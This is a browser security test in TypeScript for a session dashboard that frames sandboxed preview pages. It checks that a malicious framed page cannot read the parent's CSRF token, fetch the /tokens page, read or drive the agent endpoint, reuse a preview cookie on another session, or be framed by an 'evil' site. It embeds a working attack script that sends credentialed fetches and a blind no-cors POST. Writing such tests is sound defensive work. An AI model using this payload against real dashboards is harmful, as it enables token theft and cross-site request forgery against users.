import { expect } from 'chai';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { startPreviewApp, type PreviewApp } from '../support/preview-app.js';
import { agentReady, waitForStatus, withSessionProject } from '../support/sessions.js';
import { until } from '../support/wait.js';
import { dashFetch, launch, screenshot, signIn, withPassword } from './support.js';

/**
 * A malicious preview page in chromium: the session page
 * frames a page served from the sandbox, which tries to read and drive the dashboard
 * that frames it. On its own origin it cannot; the sandbox sees no credential of the
 * viewer; another site cannot frame it; preview A's cookie opens no other preview.
 */
describe('previews in chromium: a malicious preview page', function () {
  this.timeout(120_000);
  let browser: Browser | undefined;
  let app: PreviewApp | undefined;
  let evil: http.Server | undefined;
  afterEach(async () => {
    await browser?.close();
    await app?.close();
    evil?.closeAllConnections();
    await new Promise<void>((r) => (evil ? evil.close(() => r()) : r()));
    browser = app = evil = undefined;
  });

  it('cannot read or drive the dashboard, sees no dashboard credential, cannot be framed elsewhere, and its cookie opens no other preview', () =>
    withSessionProject({ slug: 'pvb' }, async (p) => {
      const dash = p.srv.url;
      const s = (await p.api.post(p.sessions, {})).body.session;
      const a = await waitForStatus(p.api, `${p.sessions}/${s.session_id}`, ['running']);
      const other = (await p.api.post(p.sessions, {})).body.session;
      await waitForStatus(p.api, `${p.sessions}/${other.session_id}`, ['running']);
      const agent = `${p.sessions}/${a.session_id}/agent`;
      await agentReady(p.api, `${agent}/fake/hello`);
      const runtimeSessions = async () => ((await p.api.get(`${agent}/fake/state`)).body.sessions as unknown[]).length;
      const before = await runtimeSessions();

      const reports: Record<string, string>[] = [];
      // The attack: everything attack 2 did from a framed preview page.
      const attack = `<!doctype html><title>preview</title><script>
(async () => {
  const D = ${JSON.stringify(dash)}, S = ${JSON.stringify(`/projects/${a.project_id}/sessions/${a.session_id}`)};
  const out = { origin: location.origin, cookie: document.cookie };
  const read = async (url, init) => { try { const r = await fetch(url, { credentials: 'include', ...init }); return r.status + ':' + (await r.text()).slice(0, 80); } catch (e) { return 'failed'; } };
  try { out.top = window.top.document.querySelector('meta[name=csrf-token]').content; } catch (e) { out.top = 'blocked'; }
  out.page = await read(D + S);
  out.tokens = await read(D + '/tokens');
  out.agentRead = await read(D + '/v1' + S + '/agent/fake/state');
  out.agentDrive = await read(D + '/v1' + S + '/agent/session', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
  try { await fetch(D + '/v1' + S + '/agent/session', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }); out.blind = 'sent'; } catch (e) { out.blind = 'failed'; }
  await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
})();
</script>`;
      app = await startPreviewApp((req, res, body) => {
        if (req.url === '/report') reports.push(JSON.parse(body) as Record<string, string>);
        if (req.url !== '/' && req.url !== '/report') return false;
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(req.url === '/' ? attack : 'ok');
        return true;
      });

      await withPassword(p.srv);
      browser = await launch();
      const ctx = await browser.newContext();
      const page = await ctx.newPage();
      await signIn(page, dash);
      await page.goto(`${dash}/projects/${a.project_id}/sessions/${a.session_id}?port=${app.port}`);
      await until(() => reports.length > 0, 'the preview page to report');
      await screenshot(page, 'preview-attack');
      const r = reports[0]!;
      const previewHost = `p${app.port}-${a.session_id}.localhost:${new URL(dash).port}`;
      expect(r.origin).to.equal(`http://${previewHost}`); // framed from its own origin
      expect(r.cookie).to.equal(''); // no dashboard cookie, and its own is HttpOnly
      expect(r.top).to.equal('blocked');
      for (const k of ['page', 'tokens', 'agentRead', 'agentDrive']) expect(r[k], k).to.equal('failed');
      // The blind request drove nothing: the runtime has no new session.
      expect(r.blind).to.equal('sent');
      expect(await runtimeSessions()).to.equal(before);
      // The sandbox saw no dashboard cookie, no preview cookie, no Authorization, no Referer but its own pages'.
      expect(app.seen.length).to.be.at.least(2);
      for (const seen of app.seen) {
        expect(seen.headers, seen.url).to.not.have.any.keys('authorization', 'x-svc-user-context');
        if (seen.headers.referer !== undefined) expect(new URL(String(seen.headers.referer)).host, seen.url).to.equal(previewHost);
        expect(seen.headers.cookie ?? '', seen.url).to.not.match(/svc_session|svc_preview|svc_pre/);
      }

      // The preview's cookie is host-only on A's origin.
      const jar = (await ctx.cookies()).filter((c) => c.name === '__Host-svc_preview');
      expect(jar.length).to.be.at.least(1);
      for (const c of jar) expect(c.domain).to.equal(previewHost.split(':')[0]);
      // Planted on preview B (another session, another port), A's cookie opens nothing:
      // the preview host answers with the way to the dashboard's door, not the app.
      const dashPort = new URL(dash).port;
      for (const [sid, port] of [[other.session_id, app.port], [a.session_id, app.port + 1]] as const) {
        const origin = `http://p${port}-${sid}.localhost:${dashPort}`;
        const tab = await ctx.newPage();
        await tab.setExtraHTTPHeaders({ cookie: `__Host-svc_preview=${jar[0]!.value}` }); // CDP will not plant a __Host- cookie on http
        const first = tab.waitForResponse((res) => res.url() === `${origin}/x`);
        await tab.goto(`${origin}/x`).catch(() => undefined); // it may land on an app page or an error: only the first answer matters
        const res = await first;
        expect(res.status(), origin).to.equal(303);
        expect(res.headers().location, origin).to.equal(`${dash}/projects/${a.project_id}/sessions/${sid}/preview/${port}?path=%2Fx`);
        await tab.close();
      }

      // Another site framing the preview (even holding a fresh code of the viewer's) gets nothing.
      const cookie = (await ctx.cookies()).find((c) => c.name === '__Host-svc_session')!;
      const go = await dashFetch(dash, `__Host-svc_session=${cookie.value}`, `/projects/${a.project_id}/sessions/${a.session_id}/preview/${app.port}`);
      expect(go.status).to.equal(303);
      evil = http.createServer((_req, res) => {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(`<!doctype html><title>evil</title><iframe src="${go.location}" onload="document.title='loaded'"></iframe>`);
      });
      await new Promise<void>((res) => evil!.listen(0, '127.0.0.1', res));
      const seenBefore = reports.length;
      const evilPage = await ctx.newPage();
      await evilPage.goto(`http://evil.localhost:${(evil.address() as AddressInfo).port}/`);
      await evilPage.waitForFunction("document.title === 'loaded'");
      const child = evilPage.frames().find((f) => f !== evilPage.mainFrame())!;
      expect(child.url()).to.not.include(previewHost);
      expect(reports.length).to.equal(seenBefore);
    }));
});
